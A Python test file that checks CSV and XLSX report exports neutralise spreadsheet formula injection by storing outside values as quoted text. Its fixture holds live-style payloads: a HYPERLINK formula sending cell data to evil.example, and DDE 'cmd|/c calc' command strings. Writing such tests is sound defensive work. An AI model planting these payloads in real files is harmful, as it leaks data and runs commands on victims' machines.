"""Formula injection (issue #26, cause 3): names, teams, business types, call references and evidence that
came from outside are written to every CSV and XLSX export as text, never as a formula."""

import csv
import io

import openpyxl
import pytest

from inspector.domain.people import User
from inspector.reports.export import write_report
from inspector.reports.filters import ReportFilter
from inspector.reports.workstation import workstation_report
from inspector.scoring.defaults import default_card
from inspector.scoring.export import rows_to_csv, write_csv
from inspector.spreadsheet import FORMULA_STARTS, csv_text
from inspector.store.evaluations import EvaluationRepository
from inspector.domain.evaluations import EvaluationFilter
from tests.report_fixtures import fixed_workspace

LEAD = User("9001", "张组长", "lead")

HOSTILE = {"agent_name": '=HYPERLINK("http://evil.example/?"&A1,"详情")', "team": "=cmd|'/c calc'!A0",
           "business_type": "@SUM(1+1)*cmd|' /C calc'!A0", "call_ref": "+1+cmd|'/c calc'!A0",
           "agent_id": "-2+3+cmd|'/c calc'!A0"}
TAB_AND_CR = "\t=1+1", "\r=1+1"


@pytest.fixture
def hostile(tmp_path):
    fixed = fixed_workspace(tmp_path / "ws.sqlite3")
    sets = ", ".join(f"{k} = ?" for k in HOSTILE)
    fixed.db.execute(f"UPDATE calls SET {sets}", list(HOSTILE.values()))
    return fixed


def _outside_cells(rows):
    return [cell for row in rows for cell in row if isinstance(cell, str) and any(
        value.lstrip("'") in cell or cell.lstrip("'") in value for value in HOSTILE.values() if cell)]


def _assert_csv_is_text(text: str) -> None:
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
    cells = [c for row in rows for c in row]
    assert not [c for c in cells if c.lstrip(" ").startswith(FORMULA_STARTS)], cells
    assert [c for c in cells if c.startswith("'") and c[1:] in HOSTILE.values()], "the hostile values are there, as text"


def test_evaluations_csv_holds_outside_values_as_text(hostile, tmp_path):
    rows = EvaluationRepository(hostile.db, default_card()).search(LEAD, EvaluationFilter())
    out = io.StringIO()
    rows_to_csv(rows, out)
    _assert_csv_is_text(out.getvalue())
    write_csv(rows, tmp_path / "e.csv")
    _assert_csv_is_text((tmp_path / "e.csv").read_text(encoding="utf-8-sig"))


@pytest.mark.parametrize("section", ["agent", "team", "business"])
def test_report_csv_and_xlsx_hold_outside_values_as_text(hostile, tmp_path, section):
    report = workstation_report(hostile.db, ReportFilter(), default_card(), 80.0)
    write_report(report, tmp_path / "r.csv", "csv", section)
    _assert_csv_is_text((tmp_path / "r.csv").read_text(encoding="utf-8-sig"))
    write_report(report, tmp_path / "r.xlsx", "xlsx")
    book = openpyxl.load_workbook(tmp_path / "r.xlsx")
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    hostile_cells = [c for c in cells if isinstance(c.value, str) and c.value in HOSTILE.values()]
    assert hostile_cells and all(c.data_type == "s" and c.quotePrefix for c in hostile_cells)


def test_every_formula_start_is_neutralised():
    for start in [*FORMULA_STARTS, " ="]:
        assert csv_text(f"{start}1+1").startswith("'")
    for start in TAB_AND_CR:
        assert csv_text(start).startswith("'")
    assert csv_text(-3.5) == -3.5 and csv_text("张三") == "张三" and csv_text(None) is None
